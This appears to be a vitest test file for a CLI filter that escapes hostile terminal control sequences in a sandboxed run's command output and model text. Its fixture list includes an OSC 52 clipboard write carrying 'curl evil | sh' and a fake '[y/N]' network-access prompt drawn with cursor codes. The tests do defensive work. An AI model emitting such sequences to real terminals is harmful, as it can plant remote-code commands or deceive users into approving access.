import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { RunEvent } from '../../contracts/runs';
import { liveView } from './run-view';
import type { CliIo } from './command';
import { TerminalSafeText } from './terminal-safe';

const ESC = '\x1b';
const HOSTILE = [
  `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07`, // OSC 52: writes the clipboard
  `${ESC}]52;c;aGk=${ESC}\\`,
  `${ESC}[2J${ESC}[H`, // clear, cursor home
  `${ESC}[1A${ESC}[2K? approve network access? [y/N] `, // cursor up, erase line: a fake prompt
  `${ESC}P1$r0m${ESC}\\`, // DCS
  `${ESC}_apc${ESC}\\${ESC}^pm${ESC}\\`,
  '\u009b2J', // C1 CSI
  'over\rwrite\bX\x07',
];

/** Nothing in `text` a terminal would act on except SGR colours, newline and tab. */
function onlySgr(text: string): boolean {
  const stripped = text.replace(/\x1b\[[0-9;]*m/g, '').replace(/\r\n/g, '\n');
  return !/[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]/.test(stripped);
}

describe('terminal-safe CLI output', () => {
  it('colours pass; OSC, DCS, APC/PM, cursor movement and controls are shown escaped', () => {
    const f = new TerminalSafeText();
    expect(f.push(`${ESC}[1;31mred${ESC}[0m\n`)).toBe(`${ESC}[1;31mred${ESC}[0m\n`);
    for (const h of HOSTILE) {
      const out = f.push(h) + f.end();
      expect(onlySgr(out), JSON.stringify(h)).toBe(true);
    }
    expect(new TerminalSafeText().push(`${ESC}[2J`)).toBe('\\x1b[2J');
  });

  it('a sequence split across writes is judged whole', () => {
    const f = new TerminalSafeText();
    const text = `a${ESC}]52;c;aGk=\x07b${ESC}[3`;
    let out = '';
    for (const ch of text) out += f.push(ch);
    out += f.push('1mc\r') + f.push('\nd') + f.end();
    expect(out).toBe(`a\\x1b]52;c;aGk=\\x07b${ESC}[31mc\r\nd`);
  });

  it("airlock run's live view prints a sandbox's and a model's hostile bytes as text", () => {
    const stdout = new PassThrough();
    const chunks: Buffer[] = [];
    stdout.on('data', (c: Buffer) => chunks.push(c));
    const view = liveView({ stdout, stderr: new PassThrough(), stdin: new PassThrough(), env: {} } as unknown as CliIo);
    const ev = (event: unknown, seq: number) => view.event({ runId: 'r', seq, at: '', event } as unknown as RunEvent);
    let seq = 0;
    for (const h of HOSTILE) {
      // Split in two events, as the channel may deliver them.
      const mid = Math.floor(h.length / 2);
      ev({ type: 'command_output', id: 'c', stream: 'stdout', data: h.slice(0, mid) }, seq++);
      ev({ type: 'command_output', id: 'c', stream: 'stdout', data: `${h.slice(mid)}\n` }, seq++);
      ev({ type: 'assistant_text', delta: `${h}\n` }, seq++);
      ev({ type: 'command_started', id: 'x', command: h, cwd: '/workspace' }, seq++);
    }
    ev({ type: 'command_output', id: 'c', stream: 'stdout', data: `${ESC}[32mok${ESC}[0m\n` }, seq++);
    const printed = Buffer.concat(chunks).toString();
    expect(onlySgr(printed)).toBe(true);
    expect(printed).toContain('\\x1b]52;c;');
    expect(printed).toContain(`${ESC}[32mok${ESC}[0m`);
  });
});
